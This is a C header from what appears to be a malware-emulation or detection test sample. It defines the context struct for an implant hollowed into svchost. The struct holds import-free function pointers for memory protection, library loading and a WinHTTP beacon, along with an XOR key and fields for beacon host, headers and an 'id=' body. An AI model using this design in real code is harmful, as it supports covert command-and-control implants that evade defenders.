/*
 * implant.h - combo-hollow-beacon: the context block the hollowing DLL writes beside the implant
 * in svchost (benign, emulator-only; see ../../lineage-common/common.h). The implant has no data
 * and no imports: every function and string it uses is here.
 */
#ifndef COMBO_IMPLANT_H
#define COMBO_IMPLANT_H
#include <windows.h>
#include <winhttp.h>

#define IMPLANT_CTX_OFFSET 0x2000
#define IMPLANT_ALLOC 0x3000

struct implant_ctx {
    DWORD (WINAPI *pGetEnvironmentVariableA)(LPCSTR, LPSTR, DWORD);
    BOOL (WINAPI *pGetComputerNameA)(LPSTR, LPDWORD);
    HMODULE (WINAPI *pLoadLibraryA)(LPCSTR);
    FARPROC (WINAPI *pGetProcAddress)(HMODULE, LPCSTR);
    LPVOID (WINAPI *pVirtualAlloc)(LPVOID, SIZE_T, DWORD, DWORD);
    BOOL (WINAPI *pVirtualProtect)(LPVOID, SIZE_T, DWORD, PDWORD);
    HINTERNET (WINAPI *pWinHttpOpen)(LPCWSTR, DWORD, LPCWSTR, LPCWSTR, DWORD);
    HINTERNET (WINAPI *pWinHttpConnect)(HINTERNET, LPCWSTR, INTERNET_PORT, DWORD);
    HINTERNET (WINAPI *pWinHttpOpenRequest)(HINTERNET, LPCWSTR, LPCWSTR, LPCWSTR, LPCWSTR, LPCWSTR *, DWORD);
    BOOL (WINAPI *pWinHttpSendRequest)(HINTERNET, LPCWSTR, DWORD, LPVOID, DWORD, DWORD, DWORD_PTR);
    BOOL (WINAPI *pWinHttpReceiveResponse)(HINTERNET, LPVOID);
    BOOL (WINAPI *pWinHttpReadData)(HINTERNET, LPVOID, DWORD, LPDWORD);
    BOOL (WINAPI *pWinHttpCloseHandle)(HINTERNET);
    DWORD key;              /* the module's 4-byte XOR key, little-endian */
    char marker_name[24];
    char marker_value[16];
    WCHAR agent[48];
    WCHAR host[40];
    WCHAR path[24];
    WCHAR verb[8];
    WCHAR headers[56];
    char body_prefix[16];   /* "id=" */
    char module_arg[96];    /* what DllMain gets as lpReserved: the path the module writes */
};
#endif
